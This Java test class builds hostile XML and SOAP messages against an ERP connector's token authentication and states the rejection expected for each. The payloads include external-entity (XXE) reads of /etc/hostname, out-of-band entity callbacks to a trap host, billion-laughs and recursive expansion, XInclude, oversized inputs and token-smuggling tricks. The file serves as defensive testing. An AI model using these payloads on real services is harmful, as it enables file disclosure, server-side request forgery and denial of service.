package org.erpconnector.auth.attack;

import static org.erpconnector.auth.attack.Expected.accepted;
import static org.erpconnector.auth.attack.Expected.passed;
import static org.erpconnector.auth.attack.Expected.refused;
import static org.erpconnector.auth.attack.Expected.unreadable;
import static org.erpconnector.auth.attack.Forms.SERVICE;
import static org.erpconnector.auth.attack.Forms.SOAP_11;
import static org.erpconnector.auth.attack.Forms.SOAP_12;
import static org.erpconnector.auth.attack.Forms.envelope;
import static org.erpconnector.auth.attack.Forms.post;
import static org.erpconnector.auth.attack.Forms.question;
import static org.erpconnector.auth.attack.Forms.soap;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Group 12: XML and SOAP. A good token is in all of them, so that whatever is read wrong would be accepted. */
final class EnvelopeAttacks {
    private static final String UNREADABLE = "envelope-unreadable";
    private static final String STRUCTURE = "envelope-structure";
    private static final String AMBIGUOUS = "token-ambiguous";
    private static final String DTD = "dtd-forbidden";
    private static final String NOT_TEXT = "token-not-text";
    private static final String VERSION = "soap-version-mismatch";
    private static final String MISMATCH = "action-mismatch";
    private static final String MEDIA_TYPE = "media-type-unsupported";
    private static final String XML = "Content-Type: text/xml; charset=utf-8";

    private final AttackKeys keys;

    EnvelopeAttacks(AttackKeys keys) {
        this.keys = keys;
    }

    Stream<Attack> all() {
        return Stream.of(
                        documentTypes(),
                        sizes(),
                        tokens(),
                        places(),
                        structure(),
                        versions(),
                        encodings(),
                        documents(),
                        actions(),
                        addressing(),
                        otherTypes(),
                        harmless())
                .flatMap(group -> group);
    }

    private String good() {
        return envelope("", question(keys.valid()));
    }

    private String withToken(String content) {
        return envelope("", question(content));
    }

    private Stream<Attack> documentTypes() {
        String trap = keys.trap();
        String host = trap.replaceAll("http://|/", "");
        Stream<Attack> files =
                Stream.of("file:///etc/hostname", "/etc/hostname").map(url -> entity("X01", url));
        Stream<Attack> urls = Stream.of(
                        trap,
                        "jar:" + trap + "x.jar!/x",
                        "ftp://" + host + "/x",
                        "netdoc:" + trap,
                        "\\\\\\\\" + host + "\\x")
                .map(url -> entity("X02", url));
        Stream<Attack> external = Stream.of(
                        "SYSTEM '" + trap + "x.dtd'", "PUBLIC 'p' '" + trap + "x.dtd'", "SYSTEM 'file:///etc/hostname'")
                .map(id -> soap("X03", id, "<!DOCTYPE x " + id + ">" + good(), unreadable(DTD)));
        Stream<Attack> outOfBand = Stream.of(
                        "<!ENTITY % p SYSTEM '" + trap + "p'> %p;",
                        "<!ENTITY % a 'x'><!ENTITY % b \"<!ENTITY &#37; c SYSTEM '" + trap + "%a;'>\"> %b;",
                        "<!NOTATION n SYSTEM '" + trap + "n'><!ENTITY u SYSTEM '" + trap + "u' NDATA n>",
                        "<!ATTLIST SignedToken x CDATA '" + trap + "'>")
                .map(subset -> soap(
                        "X05", subset.substring(0, 12), "<!DOCTYPE x [" + subset + "]>" + good(), unreadable(DTD)));
        String laughs = IntStream.range(1, 20)
                .mapToObj(i -> "<!ENTITY l" + i + " '" + ("&l" + (i - 1) + ";").repeat(10) + "'>")
                .collect(Collectors.joining("", "<!ENTITY l0 'ha'>", ""));
        String quadratic = "<!ENTITY a '" + "a".repeat(30_000) + "'>";
        String recursive = "<!ENTITY a '&b;'><!ENTITY b '&a;'>";
        Stream<Attack> growing = Stream.of(laughs + "#&l19;", quadratic + "#" + "&a;".repeat(5000), recursive + "#&a;")
                .map(text -> text.split("#", 2))
                .map(text -> soap(
                        "X06",
                        text[0].length() + " characters",
                        "<!DOCTYPE x [" + text[0] + "]>" + withToken(text[1]),
                        unreadable(DTD)));
        return Stream.of(
                        files,
                        urls,
                        external,
                        Stream.of("<!DOCTYPE x>", "<!-- x --><!DOCTYPE x>", "<?x?>\n<!DOCTYPE s:Envelope>")
                                .map(type -> soap("X04", type, type + good(), unreadable(DTD))),
                        Stream.of(
                                soap("X04", "lower case", "<!doctype x>" + good(), unreadable(UNREADABLE)),
                                post("X04", "no action", "", SERVICE, XML, "<!DOCTYPE x>" + good(), unreadable(DTD))),
                        outOfBand,
                        growing)
                .flatMap(group -> group);
    }

    private Attack entity(String row, String url) {
        String document = "<!DOCTYPE x [<!ENTITY e SYSTEM '" + url + "'>]>" + withToken("&e;");
        return soap(row, "entity " + url, document, unreadable(DTD));
    }

    private Stream<Attack> sizes() {
        String declarations =
                IntStream.range(0, 3000).mapToObj(i -> " xmlns:n" + i + "='u'").collect(Collectors.joining());
        String attributes =
                IntStream.range(0, 4000).mapToObj(i -> " a" + i + "=''").collect(Collectors.joining());
        Expected large = unreadable("message-too-large", 413);
        return Stream.of(
                soap(
                        "X09",
                        "9,000 levels",
                        envelope("<x>".repeat(9000) + "</x>".repeat(9000), question(keys.valid())),
                        unreadable(UNREADABLE)),
                soap(
                        "X09",
                        "65 levels",
                        envelope("<x>".repeat(63) + "</x>".repeat(63), question(keys.valid())),
                        unreadable(UNREADABLE)),
                soap(
                        "X10",
                        "4,000 attributes",
                        envelope("<x" + attributes + "/>", question(keys.valid())),
                        unreadable(UNREADABLE)),
                soap(
                        "X11",
                        "3,000 declarations",
                        envelope("<x" + declarations + "/>", question(keys.valid())),
                        unreadable(UNREADABLE)),
                soap("X11", "1 MB of declarations", envelope("<x" + declarations.repeat(20) + "/>", ""), large),
                soap(
                        "X12",
                        "a name of 1 MB",
                        envelope("<" + "x".repeat(1_000_000) + "/>", question(keys.valid())),
                        large),
                soap(
                        "X12",
                        "an attribute of 1 MB",
                        envelope("<x a='" + "x".repeat(1_000_000) + "'/>", question(keys.valid())),
                        large),
                soap("X12", "a token of 1 MB", withToken("x".repeat(1_000_000)), large),
                soap("X12", "a comment of 1 MB", "<!--" + "x".repeat(1_000_000) + "-->" + good(), large));
    }

    private Stream<Attack> tokens() {
        String token = keys.valid();
        String first = token.substring(0, 20);
        String rest = token.substring(20);
        String include =
                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/hostname' parse='text'/>";
        String remote = include.replace("file:///etc/hostname", keys.trap() + "x");
        String i = " xmlns:i='http://www.w3.org/2001/XMLSchema-instance'";
        return Stream.of(
                soap("X07", "a file", withToken(include), unreadable(NOT_TEXT)),
                soap("X07", "a URL beside the token", withToken(token + remote), unreadable(NOT_TEXT)),
                soap("X13", "in the middle", withToken(first + "<!--x-->" + rest), unreadable(NOT_TEXT)),
                soap("X13", "in front", withToken("<!--x-->" + token), unreadable(NOT_TEXT)),
                soap("X13", "behind", withToken(token + "<!---->"), unreadable(NOT_TEXT)),
                soap("X14", "processing instruction", withToken(first + "<?x?>" + rest), unreadable(NOT_TEXT)),
                soap("X14", "element", withToken(token + "<x/>"), unreadable(NOT_TEXT)),
                soap("X14", "element around", withToken("<x>" + token + "</x>"), unreadable(NOT_TEXT)),
                soap("X14", "entity", withToken(first + "&x;" + rest), unreadable(UNREADABLE)),
                soap("X17", "the same", withToken("<SignedToken>" + token + "</SignedToken>"), unreadable(AMBIGUOUS)),
                soap("X17", "two", withToken("x<SignedToken>" + token + "</SignedToken>"), unreadable(AMBIGUOUS)),
                soap(
                        "X35",
                        "nil with content",
                        good().replace("<SignedToken", "<SignedToken i:nil='true'" + i),
                        unreadable(NOT_TEXT)),
                soap(
                        "X35",
                        "other attributes",
                        good().replace(
                                        "<SignedToken",
                                        "<SignedToken xml:id='a' xml:base='" + keys.trap()
                                                + "' xml:space='preserve' i:type='x'" + i),
                        accepted()),
                soap("X36", "empty", withToken(""), refused("token-missing")),
                soap("X36", "white space", withToken(" \r\n\t"), refused("token-missing")),
                soap(
                        "X36",
                        "absent",
                        envelope("", "<AuthenticationRequest xmlns='urn:x'/>"),
                        refused("token-missing")));
    }

    private Stream<Attack> places() {
        String token = "<SignedToken xmlns='urn:y'>" + keys.valid() + "</SignedToken>";
        String other = "<SignedToken xmlns='urn:y'>x</SignedToken>";
        String message = "<AuthenticationRequest xmlns='urn:x'>%s</AuthenticationRequest>";
        String wrapped = "<Wrapper xmlns='urn:x'>" + token + "</Wrapper>";
        String detail = "<s:Fault><faultcode>x</faultcode><detail>" + token + "</detail></s:Fault>";
        String wrongBlock = envelope(
                "<h:SignedToken xmlns:h='urn:other'>" + keys.valid() + "</h:SignedToken>",
                "<AuthenticateRequest xmlns='" + Forms.MIRRORING + "'/>");
        return Stream.of(
                soap("X15", "the same twice", envelope("", message.formatted(token + token)), unreadable(AMBIGUOUS)),
                soap("X15", "two tokens", envelope("", message.formatted(token + other)), unreadable(AMBIGUOUS)),
                soap(
                        "X15",
                        "in another namespace",
                        envelope("", message.formatted(token + other.replace("urn:y", "urn:z"))),
                        unreadable(AMBIGUOUS)),
                soap("X16", "equal", envelope(token, message.formatted(token)), unreadable(AMBIGUOUS)),
                soap("X16", "different", envelope(other, message.formatted(token)), unreadable(AMBIGUOUS)),
                soap(
                        "X16",
                        "mirroring",
                        Forms.mirroring(keys.valid())
                                .replace("/></s:Body>", ">" + token + "</AuthenticateRequest></s:Body>"),
                        unreadable(AMBIGUOUS)),
                soap("X18", "mirroring, another namespace", wrongBlock, refused("token-missing")),
                soap(
                        "X18",
                        "connector, any namespace",
                        envelope("", message.formatted(token.replace("urn:y", "urn:other"))),
                        accepted()),
                post("X19", "unknown wrapper", "", SERVICE, XML, envelope("", wrapped), passed()),
                post("X19", "detail of a fault", "", SERVICE, XML, envelope("", detail), passed()),
                post(
                        "X19",
                        "in a comment",
                        "",
                        SERVICE,
                        XML,
                        envelope("", "<x/><!--" + message.formatted(token).replace("--", "-") + "-->"),
                        passed()));
    }

    private Stream<Attack> structure() {
        String question = question(keys.valid());
        String body = "<s:Body>" + question + "</s:Body>";
        Stream<Attack> twoQuestions = Stream.of(question + "<WSDeleteConnection/>", "<WSDeleteConnection/>" + question)
                .flatMap(both -> bothWays("X20", both.substring(0, 12), envelope("", both), STRUCTURE));
        Stream<Attack> parts = Stream.of(
                        body + body,
                        "<s:Body/>" + body,
                        "<s:Header/><s:Header/>" + body,
                        body + "<s:Header/>",
                        body + "<x/>",
                        "text" + body,
                        "<s:Body>text" + question + "</s:Body>",
                        "<s:Header>text</s:Header>" + body)
                .flatMap(content -> bothWays(
                        "X21",
                        content.substring(0, 14),
                        "<s:Envelope xmlns:s='" + SOAP_11 + "'>" + content + "</s:Envelope>",
                        STRUCTURE));
        return Stream.of(
                        twoQuestions,
                        parts,
                        Stream.of(soap(
                                "X21",
                                "an envelope in an envelope",
                                "<s:Envelope xmlns:s='" + SOAP_11 + "'>" + good() + "</s:Envelope>",
                                unreadable(MISMATCH))))
                .flatMap(group -> group);
    }

    /** With the action and without it. */
    private static Stream<Attack> bothWays(String row, String name, String envelope, String reason) {
        return Stream.of(
                soap(row, name, envelope, unreadable(reason)),
                post(row, name + ", no action", "", SERVICE, XML, envelope, unreadable(reason)));
    }

    private Stream<Attack> versions() {
        String twelve = envelope(SOAP_12, "", question(keys.valid()));
        String type = "Content-Type: application/soap+xml; charset=utf-8; action=\"urn:x/Authenticate\"";
        return Stream.of(
                soap("X22", "1.2 as text/xml", twelve, unreadable(VERSION)),
                post("X22", "1.1 as application/soap+xml", "", SERVICE, type, good(), unreadable(VERSION)),
                soap("X22", "unknown", envelope("urn:soap", "", question(keys.valid())), unreadable(VERSION)),
                soap(
                        "X23",
                        "unknown header",
                        envelope("<x s:mustUnderstand='1'/>", question(keys.valid())),
                        unreadable("header-not-understood")),
                post(
                        "X23",
                        "unknown header, 1.2",
                        "",
                        SERVICE,
                        type,
                        envelope(SOAP_12, "<x s:mustUnderstand='true'/>", question(keys.valid())),
                        unreadable("header-not-understood")),
                soap("X23", "our own", Forms.mirroring(keys.valid()), accepted()));
    }

    private Stream<Attack> encodings() {
        String good = good();
        Stream<Attack> charsets = Stream.of("nope", "utf-7", "iso-8859-1", "utf-16", "ibm037")
                .map(charset -> post(
                        "X25",
                        charset,
                        "",
                        SERVICE,
                        "Content-Type: text/xml; charset=" + charset + "\r\n" + Forms.ACTION,
                        good,
                        unreadable(MEDIA_TYPE, 415)));
        Stream<Attack> declared = Stream.of("UTF-16", "ISO-8859-1", "UTF-7", "bogus", "IBM037")
                .map(name -> soap(
                        "X24",
                        "declared " + name,
                        "<?xml version='1.0' encoding='" + name + "'?>" + good,
                        unreadable(UNREADABLE)));
        return Stream.of(
                        charsets,
                        declared,
                        encoded("X24", "UTF-16LE", StandardCharsets.UTF_16LE),
                        encoded("X24", "UTF-16BE", StandardCharsets.UTF_16BE),
                        encoded("X24", "IBM037", Charset.forName("IBM037")),
                        encoded("X24", "UTF-32", Charset.forName("UTF-32")),
                        Stream.of(
                                soap(
                                        "X26",
                                        "NUL by reference",
                                        withToken("&#0;" + keys.valid()),
                                        unreadable(UNREADABLE)),
                                soap(
                                        "X26",
                                        "a control character",
                                        withToken("\u0001" + keys.valid()),
                                        unreadable(UNREADABLE)),
                                soap(
                                        "X26",
                                        "XML 1.1",
                                        "<?xml version='1.1'?>" + withToken("&#1;" + keys.valid()),
                                        unreadable(UNREADABLE)),
                                post(
                                        "X26",
                                        "a byte that is not UTF-8",
                                        "",
                                        SERVICE,
                                        XML + "\r\n" + Forms.ACTION,
                                        withToken("\u00FF" + keys.valid()).getBytes(StandardCharsets.ISO_8859_1),
                                        unreadable(UNREADABLE))))
                .flatMap(group -> group);
    }

    /** With the action and without, without a mark, and with Content-Type silent about it. */
    private Stream<Attack> encoded(String row, String name, Charset charset) {
        byte[] bytes = good().getBytes(charset);
        return Stream.of(
                post(
                        row,
                        name,
                        "",
                        SERVICE,
                        "Content-Type: text/xml\r\n" + Forms.ACTION,
                        bytes,
                        unreadable(UNREADABLE)),
                post(row, name + ", no action", "", SERVICE, "Content-Type: text/xml", bytes, unreadable(UNREADABLE)));
    }

    private Stream<Attack> documents() {
        String good = good();
        Stream<Attack> broken = Stream.of(
                        good + "<x/>",
                        good + "text",
                        good + good,
                        good.substring(0, good.indexOf("</SignedToken>") + 14),
                        good.substring(0, good.length() - 1))
                .flatMap(text -> bothWays("X27", text.length() + " characters", text, UNREADABLE));
        Stream<Attack> forms = Stream.of(
                        " <?xml version='1.0'?>" + good,
                        "\uFEFF\uFEFF" + good,
                        good.replace("<request>", "<request a='1' a='2'>"),
                        good.replace("<request>", "<q:request>").replace("</request>", "</q:request>"))
                .flatMap(text -> bothWays("X28", text.length() + " characters", text, UNREADABLE));
        return Stream.concat(broken, forms);
    }

    private Stream<Attack> actions() {
        String good = good();
        String other = "SOAPAction: \"urn:x/WSGetConfigData\"";
        String delete = envelope("", "<WSDeleteConnection xmlns='urn:x'/>");
        Stream<Attack> absent = Stream.of(
                        "",
                        "\r\nSOAPAction:",
                        "\r\nSOAPAction: \"\"",
                        "\r\nSOAPAction: urn:x/Authenticate",
                        "\r\nSOAPAction: \"URN:X/AUTHENTICATE\"",
                        "\r\nSOAPAction: urn:x#Authenticate")
                .map(action -> post(
                        "X31",
                        "[" + action.strip() + "]",
                        "",
                        SERVICE,
                        XML + action,
                        envelope("", question(keys.valid())),
                        accepted()));
        Stream<Attack> two = Stream.of(
                        "\r\n" + other + "\r\n" + Forms.ACTION,
                        "\r\n" + Forms.ACTION + "\r\n" + other,
                        "\r\nSOAPAction: urn:x/WSGetConfigData, urn:x/Authenticate")
                .map(headers ->
                        post("X31", "two actions", "", SERVICE, XML + headers, good, unreadable("action-ambiguous")));
        return Stream.of(
                        Stream.of(
                                soap("X29", "deletes", delete, unreadable(MISMATCH)),
                                soap(
                                        "X29",
                                        "deletes, with a token",
                                        envelope("", delete + question(keys.valid())),
                                        unreadable(STRUCTURE)),
                                post("X30", "another action", "", SERVICE, XML + "\r\n" + other, good, passed())),
                        absent,
                        two)
                .flatMap(group -> group);
    }

    private Stream<Attack> addressing() {
        String namespace = "http://www.w3.org/2005/08/addressing";
        String action = "<w:Action xmlns:w='" + namespace + "'>urn:x/WSDeleteConnection</w:Action>";
        String reply = "<w:ReplyTo xmlns:w='" + namespace + "'><w:Address>" + keys.trap() + "</w:Address></w:ReplyTo>";
        String fault = reply.replace("ReplyTo", "FaultTo");
        return Stream.of(
                soap("X32", "another action", envelope(action, question(keys.valid())), unreadable(MISMATCH)),
                soap("X32", "answers to a stranger", envelope(reply + fault, question(keys.valid())), accepted()),
                soap(
                        "X08",
                        "style sheet",
                        "<?xml-stylesheet href='" + keys.trap() + "x.xsl'?>" + envelope("", question(keys.valid())),
                        accepted()),
                soap(
                        "X08",
                        "schema",
                        envelope("", question(keys.valid()))
                                .replace(
                                        "<request>",
                                        "<request xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='urn:x "
                                                + keys.trap() + "'>"),
                        accepted()));
    }

    private Stream<Attack> otherTypes() {
        String xop =
                withToken("<x:Include xmlns:x='http://www.w3.org/2004/08/xop/include' href='" + keys.trap() + "x'/>");
        String mime = "--b\r\nContent-Type: application/xop+xml; type=\"text/xml\"\r\n\r\n" + xop + "\r\n--b--";
        Stream<Attack> multipart = Stream.of(
                        "; type=\"application/xop+xml\"; boundary=b",
                        "",
                        "; boundary=" + "b".repeat(3000),
                        "; boundary=b; type=\"multipart/related\"")
                .map(parameters -> post(
                        parameters.isEmpty() || parameters.length() > 60 ? "X34" : "X33",
                        "multipart " + parameters.length(),
                        "",
                        SERVICE,
                        "Content-Type: multipart/related" + parameters + "\r\n" + Forms.ACTION,
                        mime,
                        unreadable(MEDIA_TYPE, 415)));
        Stream<Attack> binary = Stream.of("application/soap+msbin1", "application/fastinfoset")
                .flatMap(type -> Stream.of(
                        post(
                                "X38",
                                type,
                                "",
                                SERVICE,
                                "Content-Type: " + type + "\r\n" + Forms.ACTION,
                                good(),
                                unreadable(MEDIA_TYPE, 415)),
                        post("X38", type + ", no action", "", SERVICE, "Content-Type: " + type, good(), passed())));
        return Stream.of(
                        multipart,
                        binary,
                        Stream.of(
                                soap("X33", "as text/xml", xop, unreadable(NOT_TEXT)),
                                post(
                                        "X34",
                                        "nested",
                                        "",
                                        SERVICE,
                                        "Content-Type: multipart/mixed; boundary=b\r\n" + Forms.ACTION,
                                        mime,
                                        unreadable(MEDIA_TYPE, 415))))
                .flatMap(group -> group);
    }

    /** What tools for attacks on services start from. */
    private Stream<Attack> harmless() {
        return Stream.of(SOAP_11, SOAP_12).flatMap(soap -> {
            String type = "Content-Type: " + (soap.equals(SOAP_11) ? "text/xml" : "application/soap+xml");
            return Stream.of(
                            "<WSGetConfigData xmlns='urn:x'/>",
                            "<q:GetWeather xmlns:q='urn:w'><City>Oslo</City></q:GetWeather>",
                            "")
                    .map(body -> post(
                            "X37",
                            type.substring(14) + " " + body.length(),
                            "",
                            SERVICE,
                            type,
                            envelope(soap, "", body),
                            passed()));
        });
    }
}
